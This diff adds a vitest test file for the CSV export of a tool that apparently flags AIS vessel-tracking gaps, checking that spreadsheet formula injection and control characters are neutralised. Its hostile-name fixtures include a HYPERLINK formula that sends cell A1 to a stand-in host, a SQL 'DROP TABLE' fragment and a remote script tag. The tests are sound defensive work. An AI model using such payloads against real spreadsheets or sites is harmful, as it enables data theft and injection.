@@ -1,0 +1,105 @@
+import { parseString } from 'fast-csv'
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { safeText } from '../../src/model/text.js'
+import { csvFormat, CSV_COLUMNS, formulaSafe } from '../../src/sinks/csv.js'
+import type { DarkEvent } from '../../src/model/event.js'
+import { anyEvent, gapEvent, HOSTILE, openGap } from './events.js'
+
+function write(events: DarkEvent[]): string {
+  const format = csvFormat()
+  return format.head + events.map(event => format.event(event)).join('') + format.tail
+}
+
+const read = (text: string) =>
+  new Promise<Record<string, string>[]>((resolve, reject) => {
+    const rows: Record<string, string>[] = []
+    parseString(text, { headers: true, strictColumnHandling: true })
+      .on('error', reject)
+      .on('data-invalid', row => reject(new Error(`invalid row ${JSON.stringify(row)}`)))
+      .on('data', (row: Record<string, string>) => rows.push(row))
+      .on('end', () => resolve(rows))
+  })
+
+test('one row an event, under one header', async () => {
+  const [closed, open] = await read(write([gapEvent(), openGap()]))
+  expect(closed).toMatchObject({
+    id: 'gap-416000301-1545738042000',
+    type: 'gap',
+    mmsi: '416000301',
+    startTime: '2018-12-25T11:40:42.000Z',
+    startLat: '-16.225',
+    startLon: '-130.386',
+    endTime: '2018-12-26T04:25:31.000Z',
+    endLat: '-16.184225',
+    endLon: '-131.478745',
+    durationS: '60289',
+    score: '0.8735',
+    startZones: 'Taiwan (approximate)',
+    reasons: 'silent for 16.7 h',
+  })
+  expect(JSON.parse(closed!.details!)).toMatchObject({ distanceM: 117032.123 })
+  expect(open).toMatchObject({ endTime: '', endLat: '', endLon: '', durationS: '' })
+})
+
+test('no events are a header', () => {
+  expect(write([])).toBe(`${CSV_COLUMNS.join(',')}\n`)
+})
+
+test('several zones and reasons are joined by a semicolon', async () => {
+  const event = gapEvent()
+  const zone = { ...event.zones.start[0]!, name: 'China', method: 'authoritative' as const }
+  event.zones.start.push(zone)
+  event.evidence.push({ ...event.evidence[0]!, text: 'no port near' })
+  const [row] = await read(write([event]))
+  expect(row!.startZones).toBe('Taiwan (approximate); China')
+  expect(row!.reasons).toBe('silent for 16.7 h; no port near')
+})
+
+test('no text can be taken for a formula; numbers are left alone', () => {
+  for (const text of ['=1', '+1', '-1', '@A', '\t1', '\r1', '＝1', '＋1', '－1', '＠A']) {
+    expect(formulaSafe(text)).toBe(`'${text}`)
+  }
+  for (const cell of ['1=', ' x', '', -5, null]) expect(formulaSafe(cell)).toBe(cell)
+})
+
+test('any event comes back from a strict reader with its text, made safe', async () => {
+  await fc.assert(
+    fc.asyncProperty(fc.array(anyEvent, { maxLength: 5 }), async events => {
+      const rows = await read(write(events))
+      expect(rows.length).toBe(events.length)
+      rows.forEach((row, i) => {
+        const name = safeText(events[i]!.vessel.name ?? '', 8000)
+        expect(row.name).toBe(formulaSafe(name))
+        expect(row.mmsi).toBe(String(events[i]!.mmsi))
+        for (const cell of Object.values(row)) {
+          expect(cell).not.toMatch(/^[=+@\t\r\n＝＋－＠]/)
+          expect(cell).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028-\u202e]/)
+        }
+      })
+    }),
+    { numRuns: 200 },
+  )
+})
+
+test('hostile names by name', async () => {
+  const rows = await read(write(HOSTILE.map(name => gapEvent({ vessel: { ...gapEvent().vessel, name } }))))
+  expect(rows.map(row => row.name)).toEqual([
+    `'=HYPERLINK("http://x/?"&A1,"OK")`,
+    "'+1",
+    "'-1+1",
+    "'@SUM(A1)",
+    "'=1",
+    "'=1",
+    "'＝1+1",
+    '"; DROP TABLE',
+    'A,B;C',
+    'LINEBREAKANDMORE',
+    '[31mRED0m',
+    'RAGE',
+    '<SCRIPT SRC=//A.CO>',
+    'half',
+    "'already",
+    '日本丸',
+  ])
+})
